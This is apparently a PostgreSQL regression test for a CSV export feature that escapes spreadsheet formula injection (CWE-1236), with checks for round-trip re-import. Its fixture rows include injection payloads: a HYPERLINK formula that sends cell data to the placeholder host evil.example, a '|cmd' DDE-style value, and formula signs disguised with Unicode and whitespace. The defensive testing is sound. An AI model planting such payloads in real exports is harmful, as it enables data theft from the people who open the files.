-- Cells that a spreadsheet would run as formulas: made harmless unless asked not to. CWE-1236.
\set team e2
\getenv inputdir PG_ABS_SRCDIR
\set session :inputdir '/include/session.psql'
\set teams :inputdir '/include/teams.psql'
\i :session
\i :teams

:as_sam
INSERT INTO inventory (sku, name, quantity, unit_price, attributes) VALUES
    ('01', '=HYPERLINK("http://evil.example/?"&A1,"Click")', 1, 1, '{"=1+1": "=1+1"}'),
    ('02', '+49 170 1234567', 2, 2, '"=1+1"'), ('03', '-1+1|cmd', 3, 3, '-1'), ('04', '@SUM(1,1)', 4, 4, NULL),
    ('05', E'\t=1+1', 5, 5, NULL), ('06', E'\r=1+1', 6, 6, NULL), ('07', E'\n=1+1', 7, 7, NULL),
    ('08', '  =1+1', 8, 8, NULL), ('09', U&'\00A0=1+1', 9, 9, NULL), ('10', U&'\FEFF=1+1', 10, 10, NULL),
    ('11', U&'\FF1D1+1', 11, 11, NULL), ('12', U&'\FF0B1', 12, 12, NULL), ('13', U&'\FF0D1', 13, 13, NULL), ('14', U&'\FF20A1', 14, 14, NULL),
    ('=15', '-', 15, 15, NULL),
    -- No formulas: the sign is not where a formula begins.
    ('20', 'a=1', 20, 20, NULL), ('21', '''=1', 21, 21, NULL), ('22', '"=1"', 22, 22, NULL), ('23', '1-1', 23, 23, NULL), ('24', '5 + 5', 24, 24, NULL), ('25', '   ', 25, 25, NULL),
    -- Texts that an import would take for NULL.
    ('26', 'NULL', 26, 26, NULL), ('27', '#N/A', 27, 27, NULL);
SELECT create_export_job('inventory', options => '{"columns": ["sku", "name", "quantity", "attributes"]}') AS job \gset
:wait
SELECT replace(replace(download_export(:'job'), E'\t', '<tab>'), E'\r', '<cr>') \g (format=unaligned tuples_only=on)
SELECT report -> 'escaped' AS escaped FROM scheduled_jobs WHERE id = :'job';

-- Numbers, dates and times stay what they are, whatever they begin with.
INSERT INTO transactions (type, amount, description, occurred_on) VALUES ('=1', -5.5, '-5.5', '2026-02-28');
SELECT create_export_job('transactions') AS job \gset
:wait
SELECT download_export(:'job') \g (format=unaligned tuples_only=on)
:as_dba
SET client_min_messages = error;
DROP TABLE IF EXISTS readings CASCADE;
DROP DOMAIN IF EXISTS note, delta;
DROP TYPE IF EXISTS trend;
CREATE DOMAIN note AS text; CREATE DOMAIN delta AS integer; CREATE TYPE trend AS ENUM ('+', '-');
CREATE TABLE readings (id integer PRIMARY KEY, a real, b interval, c money, d delta, e note, f varchar(9), g char(3), h name, i "char", j trend, k text[], l boolean);
SELECT teamwork.protect_table('readings') \g /dev/null
RESET client_min_messages;
:as_sam
INSERT INTO readings VALUES (-1, -1.5, '-1 day', -5, -5, '-5', '-5', '-5', '-5', '-', '-', '{-5,=1}', false);
SELECT create_export_job('readings') AS job \gset
:wait
SELECT download_export(:'job') \g (format=unaligned tuples_only=on)
:as_dba
DROP TABLE readings;
DROP DOMAIN note, delta;
DROP TYPE trend;

-- The file as it is, imported again: the same rows, as another team gets them.
:as_sam
SELECT create_export_job('inventory', options => '{"formulas": "keep"}') AS job \gset
:wait
SELECT report -> 'escaped' AS escaped FROM scheduled_jobs WHERE id = :'job';
SELECT download_export(:'job') AS csv \gset
SELECT jsonb_agg(jsonb_build_array(sku, name, quantity, attributes) ORDER BY sku) AS ours FROM inventory \gset
:as_ben
SELECT create_background_import_job('inventory', csv => :'csv') AS job \gset
:wait
:report
SELECT jsonb_agg(jsonb_build_array(sku, name, quantity, attributes) ORDER BY sku) = :'ours' AS same FROM inventory;
-- The apostrophes of the other way are taken off again: nothing is added or changed.
:as_sam
SELECT create_export_job('inventory', options => '{"formulas": "escape", "columns": ["sku", "name"]}') AS job \gset
:wait
SELECT download_export(:'job') AS csv \gset
:as_ben
SELECT create_background_import_job('inventory', csv => :'csv') AS job \gset
:wait
SELECT sku, name FROM inventory WHERE sku IN ('02', '''=15') ORDER BY sku;
